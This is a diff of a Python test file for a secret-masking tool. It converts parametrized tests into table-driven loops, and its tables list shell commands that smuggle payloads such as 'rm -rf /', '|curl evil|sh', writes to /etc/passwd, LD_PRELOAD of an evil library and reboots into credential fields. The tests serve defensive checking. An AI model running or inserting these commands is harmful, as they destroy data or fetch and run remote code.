@@ -13,8 +13,9 @@ from hypothesis import strategies
 
 from sayso import errors
 from sayso.content import command_line, credentials, masks, secret_names
-from tests.counting import MOST, grows
+from tests.counting import grows_too_fast
 from tests.secrets_made import HARMLESS, MADE, NAMED, PLACES, planted
+from tests.tables import each
 
 MASKS = masks.Masks(b"k" * 32)
 MASK = re.compile(r"•{4}(\d+):([0-9a-f]{8})•{4}")
@@ -47,55 +48,55 @@ def test_forms_and_places_that_others_found_are_known() -> None:
         assert MASKS.text(one) == one
 
 
-@pytest.mark.parametrize("given", HARMLESS, ids=str)
-def test_what_only_looks_like_a_secret_stays(given: Any) -> None:
-    for value in (given, {"command": given}, {"content": given}):
-        assert MASKS.value(value) is value
+def test_what_only_looks_like_a_secret_stays() -> None:
+    given = [value for one in HARMLESS for value in (one, {"command": one}, {"content": one})]
+    assert [value for value in given if MASKS.value(value) is not value] == []
 
 
-@pytest.mark.parametrize(
-    ("command", "seen"),
-    [
-        ("export TOKEN=abc123def; rm -rf /", "; rm -rf /"),
-        ("API_KEY=abc123$(rm -rf ~) make", "$(rm -rf ~) make"),
-        ("password='x1'; rm -rf / #'", "; rm -rf / #'"),
-        ('--password "x1x1x1" && rm -rf /', '" && rm -rf /'),
-        (f"{KEY};rm -rf /", ";rm -rf /"),
-        (f"{KEY}|sh", "|sh"),
-        ("TOKEN=abc123`rm -rf /`", "`rm -rf /`"),
-        ('password="x1 rm -rf /"', "rm -rf /"),
-        ("PASSWORD=abc123>/etc/passwd", ">/etc/passwd"),
-        ("Authorization: Bearer abc123456789abcdef;reboot", ";reboot"),
-        ("token=abc123&&reboot", "&&reboot"),
-        ("api_key=a1b2c3\nrm -rf /", "\nrm -rf /"),
-        ("secret=a1b2c3|curl evil|sh", "|curl evil|sh"),
-        ("password=rm\\ -rf\\ /", "rm\\ -rf\\ /"),
-        ("curl https://u:p1x1@;reboot;@good.example", "@;reboot;@good.example"),
-        ("curl https://u:p1x1@x|sh;@good.example", "@x|sh;@"),
-        ("curl https://u:p1x1@$(reboot)@good.example", "@$(reboot)@"),
-        ("PASSWORD= shutdown now", "PASSWORD= shutdown now"),
-        ('TOKEN=a1b2c3 PASSWORD= "reboot"', 'PASSWORD= "reboot"'),
-        ("PASSWORD== reboot", "== reboot"),
-        ("bash -c 'SECRET= python3 x.py'", "SECRET= python3 x.py"),
-        ("PASSWORD=>Makefile", ">Makefile"),
-        ('echo "PASSWORD="abc1;reboot;"z"', ";reboot;"),
-        ('PASSWORD=\\"abc1;reboot;\\"', ";reboot;"),
-        ('echo "$(echo "PASSWORD="abc1;reboot;"z")"', ";reboot;"),
-        ("""echo $'\\'' "PASSWORD="abc1;reboot;"z" '""", ";reboot;"),
-        ("""# '\necho "PASSWORD="abc1;reboot;"z" #'""", ";reboot;"),
-        ("""cat <<X\n'\nX\necho "PASSWORD="abc1;reboot;"z" '""", ";reboot;"),
-        ('rm -rf "password="abc1 src lib docs"x"', " src lib docs"),
-        ("echo token is `reboot1 now`", "`reboot1 now`"),
-        ("A=Bearer ./drop-production-v2.sh now", "A=Bearer ./drop-production-v2.sh now"),
-        ("A=basic /Opt/drop-production-v2", "/Opt/drop-production-v2"),
-        ("TOKEN=Bearer reboot1 now", "reboot1 now"),
-        ('X="TOKEN="Bearer reboot1"" now', "Bearer reboot1"),
-        (": cookie: ; LD_PRELOAD=/tmp/evil1.so ls", "LD_PRELOAD=/tmp/evil1.so"),
-        (": cookie: ; GIT_SSH_COMMAND=./evil1.sh git fetch", "GIT_SSH_COMMAND=./evil1.sh"),
-    ],
-)
-def test_no_mask_hides_what_a_shell_runs(command: str, seen: str) -> None:
-    assert seen in MASKS.text(command)
+RUN: list[tuple[str, str]] = [
+    ("export TOKEN=abc123def; rm -rf /", "; rm -rf /"),
+    ("API_KEY=abc123$(rm -rf ~) make", "$(rm -rf ~) make"),
+    ("password='x1'; rm -rf / #'", "; rm -rf / #'"),
+    ('--password "x1x1x1" && rm -rf /', '" && rm -rf /'),
+    (f"{KEY};rm -rf /", ";rm -rf /"),
+    (f"{KEY}|sh", "|sh"),
+    ("TOKEN=abc123`rm -rf /`", "`rm -rf /`"),
+    ('password="x1 rm -rf /"', "rm -rf /"),
+    ("PASSWORD=abc123>/etc/passwd", ">/etc/passwd"),
+    ("Authorization: Bearer abc123456789abcdef;reboot", ";reboot"),
+    ("token=abc123&&reboot", "&&reboot"),
+    ("api_key=a1b2c3\nrm -rf /", "\nrm -rf /"),
+    ("secret=a1b2c3|curl evil|sh", "|curl evil|sh"),
+    ("password=rm\\ -rf\\ /", "rm\\ -rf\\ /"),
+    ("curl https://u:p1x1@;reboot;@good.example", "@;reboot;@good.example"),
+    ("curl https://u:p1x1@x|sh;@good.example", "@x|sh;@"),
+    ("curl https://u:p1x1@$(reboot)@good.example", "@$(reboot)@"),
+    ("PASSWORD= shutdown now", "PASSWORD= shutdown now"),
+    ('TOKEN=a1b2c3 PASSWORD= "reboot"', 'PASSWORD= "reboot"'),
+    ("PASSWORD== reboot", "== reboot"),
+    ("bash -c 'SECRET= python3 x.py'", "SECRET= python3 x.py"),
+    ("PASSWORD=>Makefile", ">Makefile"),
+    ('echo "PASSWORD="abc1;reboot;"z"', ";reboot;"),
+    ('PASSWORD=\\"abc1;reboot;\\"', ";reboot;"),
+    ('echo "$(echo "PASSWORD="abc1;reboot;"z")"', ";reboot;"),
+    ("""echo $'\\'' "PASSWORD="abc1;reboot;"z" '""", ";reboot;"),
+    ("""# '\necho "PASSWORD="abc1;reboot;"z" #'""", ";reboot;"),
+    ("""cat <<X\n'\nX\necho "PASSWORD="abc1;reboot;"z" '""", ";reboot;"),
+    ('rm -rf "password="abc1 src lib docs"x"', " src lib docs"),
+    ("echo token is `reboot1 now`", "`reboot1 now`"),
+    ("A=Bearer ./drop-production-v2.sh now", "A=Bearer ./drop-production-v2.sh now"),
+    ("A=basic /Opt/drop-production-v2", "/Opt/drop-production-v2"),
+    ("TOKEN=Bearer reboot1 now", "reboot1 now"),
+    ('X="TOKEN="Bearer reboot1"" now', "Bearer reboot1"),
+    (": cookie: ; LD_PRELOAD=/tmp/evil1.so ls", "LD_PRELOAD=/tmp/evil1.so"),
+    (": cookie: ; GIT_SSH_COMMAND=./evil1.sh git fetch", "GIT_SSH_COMMAND=./evil1.sh"),
+]
+
+
+def test_no_mask_hides_what_a_shell_runs() -> None:
+    for row in each(RUN):
+        with row as (command, seen):
+            assert seen in MASKS.text(command)
 
 
 @pytest.mark.parametrize(
@@ -298,26 +299,27 @@ def test_a_word_of_what_runs_is_not_hidden_because_an_agent_calls_it_a_secret() 
     assert MASK.sub("M", cover.known(command, runs=True)) == "kubectl delete ns production-eu1; use ghp_M M"
 
 
-@pytest.mark.parametrize(
-    ("name", "strength"),
-    [
-        ("password", "password"),
-        ("DB_PASSWORD_OLD", "password"),
-        ("API_KEY_2", "key"),
-        ("apiKey", "key"),
-        ("clientSecret", "key"),
-        ("max_tokens", None),
-        ("token_type", None),
-        ("secret_name", None),
-        ("next_page_token", None),
-        ("public_key", None),
-        ("compass", None),
-        ("", None),
-        ("x" * 100 + "password", None),
-    ],
-)
-def test_a_name_counts_by_its_last_words(name: str, strength: str | None) -> None:
-    assert secret_names.strength_of(name) == strength
+NAMES: list[tuple[str, str | None]] = [
+    ("password", "password"),
+    ("DB_PASSWORD_OLD", "password"),
+    ("API_KEY_2", "key"),
+    ("apiKey", "key"),
+    ("clientSecret", "key"),
+    ("max_tokens", None),
+    ("token_type", None),
+    ("secret_name", None),
+    ("next_page_token", None),
+    ("public_key", None),
+    ("compass", None),
+    ("", None),
+    ("x" * 100 + "password", None),
+]
+
+
+def test_a_name_counts_by_its_last_words() -> None:
+    for row in each(NAMES):
+        with row as (name, strength):
+            assert secret_names.strength_of(name) == strength
 
 
 SIGNS = (
@@ -342,10 +344,10 @@ SIGNS = (
 )
 
 
-@pytest.mark.parametrize("sign", SIGNS)
 @pytest.mark.parametrize("read", [credentials.spans, MASKS.text, lambda raw: MASKS.value({"password": raw})])
-def test_hostile_text_is_read_in_linear_work(read: Callable[[str], object], sign: str) -> None:
-    assert grows(lambda n: sign * (n // len(sign)), read) < MOST
+def test_hostile_text_is_read_in_linear_work(read: Callable[[str], object]) -> None:
+    texts = {sign: lambda n, sign=sign: sign * (n // len(sign)) for sign in SIGNS}
+    assert grows_too_fast(texts, read) == {}
 
 
 class Looked(str):
